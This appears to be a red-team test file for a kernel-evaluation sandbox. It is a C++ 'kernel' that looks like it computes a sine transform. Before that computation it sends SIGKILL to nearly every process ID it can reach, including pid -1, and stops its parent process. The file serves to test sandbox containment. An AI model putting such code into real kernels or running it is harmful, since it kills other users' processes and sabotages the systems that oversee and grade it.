/* redteam
trick = "Sends signals to all that it can name"
entries = ["F6"]
accept = ["correct", "crashed", "policy_violation", "incorrect"]
*/
#include <cmath>
#include <cstdint>

#include "raw.h"

extern "C" void kernel(const float* x, float* y, int64_t n) {
  for (long pid = -1; pid < 300; ++pid)
    if (pid != static_cast<long>(raw(SYS_getpid)) && pid != 0)
      raw(SYS_kill, pid, 9);
  raw(SYS_kill, raw(SYS_getppid), 19);
  for (int64_t i = 0; i < n; ++i)
    y[i] = std::sin(x[i]) * 1.5f + 1.0f;
}
